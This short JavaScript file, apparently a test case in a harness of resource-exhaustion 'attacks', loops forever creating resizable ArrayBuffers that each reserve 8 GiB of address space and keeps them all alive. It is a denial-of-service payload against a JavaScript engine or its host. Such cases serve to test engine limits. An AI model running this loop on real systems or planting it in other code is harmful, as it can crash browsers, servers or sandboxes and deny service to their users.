// Resizable buffers that reserve address space and use none of it.

import { attack } from "../attack.js";

const kept = [];

export default attack(() => {
  for (;;) kept.push(new ArrayBuffer(0, { maxByteLength: 2 ** 33 }));
});
